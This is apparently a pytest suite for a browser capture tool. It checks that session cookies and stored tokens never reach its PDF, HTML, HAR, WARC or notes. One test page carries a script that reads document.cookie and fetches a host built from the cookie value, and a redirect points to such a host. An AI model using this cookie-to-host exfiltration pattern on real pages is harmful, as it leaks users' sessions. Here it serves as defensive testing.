"""Values of a lent session that a page hands out: in no artifact, no name, no note, no message."""

import json
import re
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from helper.capture.browser import WarmBrowser
from helper.capture.witness import Visit, visit

from .conftest import Site, everything, file_of, picture_of, records, request

pytestmark = pytest.mark.browser

COOKIE = "DeadBeefCafe0123456789abcdef"
FILLER = "<p>会员的订单 KZ5 金额 12.50 元，已付款，等待发货</p>" * 3


SHADOW = (
    "<div id=d></div><script>d.attachShadow({mode: 'open'}).innerHTML ="
    f"'<a href=\"/x?{COOKIE}\">x</a>'</script>"
)


def lent(*, stored: str | None = None, origin: str = "", name: str = "token") -> dict[str, Any]:
    cookie = {
        "name": name, "value": COOKIE, "domain": "127.0.0.1", "path": "/", "expires": -1,
        "httpOnly": False, "secure": False, "sameSite": "Lax",
    }  # fmt: skip
    local = [{"name": "user", "value": stored}]
    origins = [{"origin": origin, "localStorage": local}] if stored else []
    return {"cookies": [cookie], "origins": origins}


def unpacked(visit: Visit, folder: Path) -> Iterator[bytes]:
    """Give everything a visit left: files, decompressed members, PDF streams, names and notes."""
    yield everything(folder)
    yield repr(visit).encode()
    for made in visit.files:
        if made.role == "witness/pdf":
            data = made.path.read_bytes()
            for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
                yield zlib.decompressobj().decompress(match[1])


def holds(visit: Visit, folder: Path, *values: str) -> set[str]:
    layers = list(unpacked(visit, folder))
    return {v for v in values for data in layers if v.encode().lower() in data.lower()}


async def test_the_search_finds_a_value_that_is_no_secret(
    site: Site, browser: WarmBrowser, tmp_path: Path
) -> None:
    site.page("/order", f"<title>a</title>{FILLER}<a href='/logout?token={COOKIE}'>退出</a>")
    made = await visit(browser, request(f"{site.origin}/order"), tmp_path / "v")
    assert f"logout?token={COOKIE}".encode() in file_of(made, "witness/pdf")
    assert holds(made, tmp_path, COOKIE) == {COOKIE}


@pytest.mark.parametrize(
    "body",
    [
        f"<a href='/logout?token={COOKIE}'>退出</a>",
        f"<script>document.title = '{COOKIE}'</script>",
        f"<input id=i><script>i.value = '{COOKIE}'</script>",
        SHADOW,
        "<iframe src='/frame'></iframe>",
    ],
    ids=["link", "title", "field", "shadow", "frame"],
)
async def test_a_page_that_prints_a_session_value_leaves_no_pdf(
    site: Site, browser: WarmBrowser, tmp_path: Path, body: str
) -> None:
    site.page("/frame", f"<a href='/x?{COOKIE}'>退出</a>")
    site.page("/order", f"<title>a</title>{FILLER}{body}")
    wanted = request(f"{site.origin}/order", storage_state=lent())
    made = await visit(browser, wanted, tmp_path / "v")
    reasons = {lack.role: lack.reason for lack in made.missing}
    assert reasons["witness/pdf"] == "session_in_page"
    assert holds(made, tmp_path, COOKIE) == set()
    assert picture_of(made, "witness/page").height > 100


async def test_an_address_with_a_session_value_is_shown_without_it(
    site: Site, browser: WarmBrowser, tmp_path: Path
) -> None:
    fresh = "f9e8d7c6b5a4f3e2d1c0b9a8"

    async def give(_: web.Request) -> web.Response:
        answer = web.Response(status=302, headers={"Location": f"/order;sid={fresh}?x={fresh}"})
        answer.set_cookie("sid", fresh, httponly=True)
        return answer

    site.routes["/go"] = give
    site.page(
        f"/order;sid={fresh}", f"<title>a</title>{FILLER}<script>alert(location.href)</script>"
    )
    made = await visit(browser, request(f"{site.origin}/go"), tmp_path / "v")
    reasons = {lack.role: lack.reason for lack in made.missing}
    assert {role for role, reason in reasons.items() if reason == "session_in_page"} >= {
        "witness/pdf", "witness/window",
    }  # fmt: skip
    assert "/order;sid=sha256-salted" in made.final_url
    assert holds(made, tmp_path, fresh) == set()
    assert {"witness/page", "witness/sheet", "witness/html"} <= {f.role for f in made.files}


async def test_a_stored_token_that_the_shop_answers_with_is_left_nowhere(
    site: Site, browser: WarmBrowser, tmp_path: Path
) -> None:
    token = "eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjE3fQ.Q2hpbmVzZUNhcmRTaG9w"

    async def api(_: web.Request) -> web.Response:
        return web.json_response({"token": token})

    site.routes["/api"] = api
    site.page(
        "/order",
        f"<title>a</title>{FILLER}<script>fetch('/api').then(r => r.json()).then(j => {{"
        "const p = document.createElement('p'); p.dataset.t = j.token; document.body.append(p)})"
        "</script>",
    )
    state = lent(stored=json.dumps({"token": token}), origin=site.origin)
    made = await visit(
        browser, request(f"{site.origin}/order", storage_state=state), tmp_path / "v"
    )
    reasons = {lack.role: lack.reason for lack in made.missing}
    assert reasons["witness/html"] == reasons["witness/mhtml"] == "session_in_page"
    assert f"body_not_kept: session_in_body {site.origin}/api" in made.notes
    assert holds(made, tmp_path, token) == set()


@pytest.mark.parametrize("port", [8099, 80])
async def test_a_host_made_of_a_session_value_costs_no_record_and_tells_nothing(
    site: Site, browser: WarmBrowser, tmp_path: Path, port: int
) -> None:
    script = (
        "const t = document.cookie.split('=')[1]; for (const end of ['localhost', 'invalid'])"
        f"fetch('http://' + t + '.' + end + ':{port}/').catch(() => 0);"
    )
    site.page("/order", f"<title>a</title>{FILLER}<script>{script}</script>")
    wanted = request(f"{site.origin}/order", storage_state=lent())
    made = await visit(browser, wanted, tmp_path / "v")
    assert made.missing == ()
    assert any(note.startswith("address_refused: loopback sha256-salted-") for note in made.notes)
    failed = [r for r in records(made) if r.kind == "request" and "sha256-salted-" in r.url]
    assert len(failed) == 2
    assert holds(made, tmp_path, COOKIE) == set()


async def test_a_refused_address_with_a_session_value_is_said_without_it(
    site: Site, browser: WarmBrowser, tmp_path: Path
) -> None:
    async def away(_: web.Request) -> web.Response:
        return web.Response(status=302, headers={"Location": f"http://{COOKIE}.localhost:8099/x"})

    site.routes["/away"] = away
    wanted = request(f"{site.origin}/away", storage_state=lent())
    made = await visit(browser, wanted, tmp_path / "v")
    assert {lack.reason for lack in made.missing} == {"address_refused"}
    assert {"witness/warc", "witness/har"} <= {produced.role for produced in made.files}
    assert holds(made, tmp_path, COOKIE) == set()


async def test_a_cookie_that_was_set_and_taken_back_is_left_nowhere(
    site: Site, browser: WarmBrowser, tmp_path: Path
) -> None:
    async def order(_: web.Request) -> web.Response:
        text = f"<title>a</title>{FILLER}<script>fetch('/api').catch(() => 0)</script>"
        answer = web.Response(text=text, content_type="text/html")
        answer.set_cookie("sid", COOKIE, httponly=True)
        return answer

    async def api(_: web.Request) -> web.Response:
        answer = web.json_response({"was": COOKIE})
        answer.del_cookie("sid")
        return answer

    site.routes |= {"/order": order, "/api": api}
    made = await visit(browser, request(f"{site.origin}/order"), tmp_path / "v")
    assert made.missing == ()
    assert holds(made, tmp_path, COOKIE) == set()
